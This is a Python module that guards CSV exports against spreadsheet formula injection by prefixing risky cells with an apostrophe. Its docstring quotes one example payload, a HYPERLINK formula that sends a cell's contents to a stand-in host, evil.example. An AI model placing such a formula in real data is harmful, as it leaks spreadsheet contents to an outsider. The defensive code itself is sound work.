"""CSV written for people to open in a spreadsheet: every export goes through here.

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is run as a formula when the file is opened: a lead
named ``=HYPERLINK("http://evil.example/?"&A1, "open")`` would leak the sheet or worse.
Such a cell is written with a leading apostrophe, which spreadsheets show as text.
Numbers stay numbers, and so do strings that are plainly a number (``-12``, ``-3.5 %``).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?\d[\d\s.,]*(\s?%)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell_safe(value: Any) -> Any:
    """``value`` as a spreadsheet will show it and never run it."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`cell_safe`."""

    def __init__(self, target: _Writable, **fmt: Any) -> None:
        self._writer = csv.writer(target, **fmt)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(target: _Writable, **fmt: Any) -> SafeWriter:
    """A CSV writer for files people download (``fmt``: ``csv.writer``'s options)."""
    return SafeWriter(target, **fmt)
